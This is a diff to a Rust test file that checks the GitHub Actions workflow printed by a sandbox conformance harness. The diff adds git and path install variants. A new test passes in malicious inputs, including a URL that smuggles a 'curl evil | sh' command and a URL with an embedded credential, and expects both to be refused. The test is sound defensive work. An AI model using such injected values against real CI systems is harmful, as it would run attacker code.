@@ -1,7 +1,8 @@
 //! `sandbox-conformance ci-template github` prints a valid GitHub Actions workflow that runs both
-//! host profiles, keeps JUnit and the failure transcripts, pins this harness version, and uses
-//! only flags the harness has (asked from the binary's own `--help`); the book shows the same
-//! file.
+//! host profiles, keeps JUnit and the failure transcripts, installs this harness (crates.io at
+//! this version by default; `--from-git URL [--rev REV]` or `--from-path DIR` until it is
+//! published), and uses only flags the harness has (asked from the binary's own `--help`), in
+//! every variant; the book shows the default file.
 
 use std::path::Path;
 use std::process::{Command, Output, Stdio};
@@ -16,9 +17,41 @@ fn harness(args: &[&str]) -> Output {
 }
 
 fn printed_workflow() -> String {
-    let out = harness(&["ci-template", "github"]);
-    assert!(out.status.success(), "{out:?}");
+    printed(&[])
+}
+
+fn printed(options: &[&str]) -> String {
+    let out = harness(&[&["ci-template", "github"], options].concat());
+    assert!(out.status.success(), "{options:?}: {out:?}");
     String::from_utf8(out.stdout).expect("UTF-8")
+}
+
+const URL: &str = "https://github.com/paperclip-sandbox/paperclip-sandbox";
+
+/// Every variant of the workflow: (the `ci-template github` options, the install command it
+/// must run).
+fn variants() -> Vec<(Vec<&'static str>, String)> {
+    let version = env!("CARGO_PKG_VERSION");
+    vec![
+        (
+            vec![],
+            format!("cargo install paperclip-sandbox-conformance --version {version} --locked"),
+        ),
+        (
+            vec!["--from-git", URL],
+            format!("cargo install paperclip-sandbox-conformance --locked --git {URL}"),
+        ),
+        (
+            vec!["--from-git", URL, "--rev", "3f2a9c1"],
+            format!(
+                "cargo install paperclip-sandbox-conformance --locked --git {URL} --rev 3f2a9c1"
+            ),
+        ),
+        (
+            vec!["--from-path", "vendor/paperclip-sandbox/"],
+            "cargo install --locked --path vendor/paperclip-sandbox/conformance".to_owned(),
+        ),
+    ]
 }
 
 /// The `sandbox-conformance` invocations of a `run:` script: (subcommand, flags before `--`).
@@ -47,8 +80,26 @@ fn steps(doc: &Yaml) -> &Vec<Yaml> {
 
 #[test]
 fn the_github_workflow_is_valid_yaml_with_both_profiles_and_reports() {
-    let text = printed_workflow();
-    let docs = YamlLoader::load_from_str(&text).expect("the workflow is valid YAML");
+    for (options, install) in variants() {
+        let text = printed(&options);
+        check_workflow(&text, &install);
+        let path_variant = options.first() == Some(&"--from-path");
+        let docs = YamlLoader::load_from_str(&text).unwrap();
+        let checkout = steps(&docs[0])
+            .iter()
+            .find(|s| s["uses"].as_str().is_some_and(|u| u.starts_with("actions/checkout@")))
+            .expect("a checkout step");
+        assert_eq!(
+            checkout["with"]["submodules"].as_str() == Some("recursive"),
+            path_variant,
+            "{options:?}: the checkout fetches submodules exactly for --from-path"
+        );
+        eprintln!("ci-template github {options:?}: installs with `{install}`");
+    }
+}
+
+fn check_workflow(text: &str, install: &str) {
+    let docs = YamlLoader::load_from_str(text).expect("the workflow is valid YAML");
     assert_eq!(docs.len(), 1, "one document");
     let doc = &docs[0];
     assert!(doc["on"].as_vec().is_some(), "a trigger list");
@@ -68,13 +119,9 @@ fn the_github_workflow_is_valid_yaml_with_both_profiles_and_reports() {
     let scripts: Vec<&str> = steps.iter().filter_map(|s| s["run"].as_str()).collect();
     let all = scripts.join("\n");
     assert!(all.contains("cargo build --release --locked"), "builds the worker");
-    let version = env!("CARGO_PKG_VERSION");
-    assert!(
-        all.contains(&format!(
-            "cargo install paperclip-sandbox-conformance --version {version} --locked"
-        )),
-        "installs this harness version"
-    );
+    let installs: Vec<&str> =
+        scripts.iter().copied().filter(|s| s.contains("cargo install")).collect();
+    assert_eq!(installs, [install], "installs the harness one way");
     let runs = invocations(&all);
     let run_flags: Vec<&Vec<String>> =
         runs.iter().filter(|(sub, _)| sub == "run").map(|(_, f)| f).collect();
@@ -96,12 +143,21 @@ fn the_github_workflow_is_valid_yaml_with_both_profiles_and_reports() {
 
 #[test]
 fn every_harness_flag_the_workflow_uses_exists() {
-    let text = printed_workflow();
-    let docs = YamlLoader::load_from_str(&text).unwrap();
-    let scripts: Vec<String> =
-        steps(&docs[0]).iter().filter_map(|s| s["run"].as_str().map(str::to_owned)).collect();
-    let runs = invocations(&scripts.join("\n"));
-    assert!(runs.len() >= 3, "{runs:?}");
+    let mut runs = Vec::new();
+    for (options, _) in variants() {
+        let text = printed(&options);
+        let docs = YamlLoader::load_from_str(&text).unwrap();
+        let scripts: Vec<String> =
+            steps(&docs[0]).iter().filter_map(|s| s["run"].as_str().map(str::to_owned)).collect();
+        let found = invocations(&scripts.join("\n"));
+        assert!(found.len() >= 3, "{options:?}: {found:?}");
+        runs.extend(found);
+    }
+    // The options that print the variants exist too.
+    runs.push((
+        "ci-template".to_owned(),
+        ["--from-git", "--rev", "--from-path"].map(str::to_owned).to_vec(),
+    ));
     for (sub, flags) in runs {
         let help = harness(&[&sub, "--help"]);
         assert!(help.status.success(), "`sandbox-conformance {sub}` exists: {help:?}");
@@ -132,6 +188,40 @@ fn the_book_shows_the_printed_workflow() {
         chapter.contains("```yaml\n{{#include ../../conformance/ci/github.yml}}\n```"),
         "the CI chapter includes conformance/ci/github.yml"
     );
+    for option in ["--from-git", "--rev", "--from-path"] {
+        assert!(chapter.contains(option), "the CI chapter says when to use {option}");
+    }
     let file = Path::new(env!("CARGO_MANIFEST_DIR")).join("ci/github.yml");
     assert_eq!(std::fs::read_to_string(file).unwrap(), printed_workflow());
+}
+
+#[test]
+fn values_that_cannot_be_printed_into_the_workflow_are_refused_unquoted() {
+    let bad: [&[&str]; 7] = [
+        &["--from-git", "https://example.com/a b"],
+        &["--from-git", "https://example.com/x'; curl evil | sh; '"],
+        &["--from-git", "https://user:s3cr3t-token@example.com/repo"],
+        &["--from-git", ""],
+        &["--from-git", URL, "--rev", "main#x"],
+        &["--from-path=-rf"],
+        &["--from-path", "dir with space"],
+    ];
+    for options in bad {
+        let out = harness(&[&["ci-template", "github"], options].concat());
+        assert_eq!(out.status.code(), Some(2), "{options:?}: {out:?}");
+        assert!(out.stdout.is_empty(), "{options:?}: nothing printed");
+        let stderr = String::from_utf8_lossy(&out.stderr);
+        let value = options.last().unwrap();
+        assert!(value.is_empty() || !stderr.contains(value), "{options:?} quoted: {stderr}");
+        assert!(!stderr.contains("s3cr3t"), "{stderr}");
+    }
+    // A URL with a user name and no password is fine (ssh and https).
+    for url in ["git@github.com:org/repo.git", "https://git@example.com/org/repo"] {
+        assert!(printed(&["--from-git", url]).contains(&format!("--git {url}\n")), "{url}");
+    }
+    // --rev needs --from-git; --from-git and --from-path exclude each other.
+    for options in [&["--rev", "abc"][..], &["--from-git", URL, "--from-path", "d"]] {
+        let out = harness(&[&["ci-template", "github"], options].concat());
+        assert_eq!(out.status.code(), Some(2), "{options:?}: {out:?}");
+    }
 }
